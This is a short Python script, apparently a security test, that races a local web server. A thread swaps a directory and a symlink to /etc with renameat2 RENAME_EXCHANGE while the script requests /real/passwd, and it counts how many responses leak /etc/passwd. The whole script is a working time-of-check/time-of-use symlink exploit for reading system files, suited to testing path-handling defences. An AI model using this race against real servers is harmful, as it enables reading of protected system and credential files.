#!/usr/bin/env python3
"""webroot_race.py PORT WEBROOT SECONDS - swap WEBROOT/real (a directory holding
passwd, "SAFE") with WEBROOT/evil (a symbolic link to /etc) by renameat2(2)
RENAME_EXCHANGE in a tight loop, while asking the broker for /real/passwd over
kept-alive connections. Prints "requests N safe N missing N leaked N swaps N".
"""
import ctypes
import http.client
import os
import sys
import threading
import time

port, root, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
libc = ctypes.CDLL(None, use_errno=True)
RENAME_EXCHANGE = 2
AT_FDCWD = -100
a = os.path.join(root, "real").encode()
b = os.path.join(root, "evil").encode()
stop = False
swaps = 0


def swapper():
    global swaps
    while not stop:
        if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0:
            swaps += 1


t = threading.Thread(target=swapper)
t.start()
counts = {"safe": 0, "missing": 0, "leaked": 0, "other": 0}
end = time.monotonic() + seconds
conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
while time.monotonic() < end:
    try:
        conn.request("GET", "/real/passwd")
        r = conn.getresponse()
        body = r.read()
    except (OSError, http.client.HTTPException):
        conn.close()
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
        continue
    if r.status == 200 and body == b"SAFE\n":
        counts["safe"] += 1
    elif r.status == 404:
        counts["missing"] += 1
    elif b"root:" in body:
        counts["leaked"] += 1
    else:
        counts["other"] += 1
stop = True
t.join()
total = sum(counts.values())
print("requests %d safe %d missing %d leaked %d other %d swaps %d" % (
    total, counts["safe"], counts["missing"], counts["leaked"], counts["other"], swaps))
